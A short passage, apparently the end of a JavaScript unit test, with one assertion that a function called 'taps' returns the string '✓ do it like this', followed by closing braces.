    expect(await ada.taps(asks, 'do it')).toBe('✓ do it like this');
  });
});
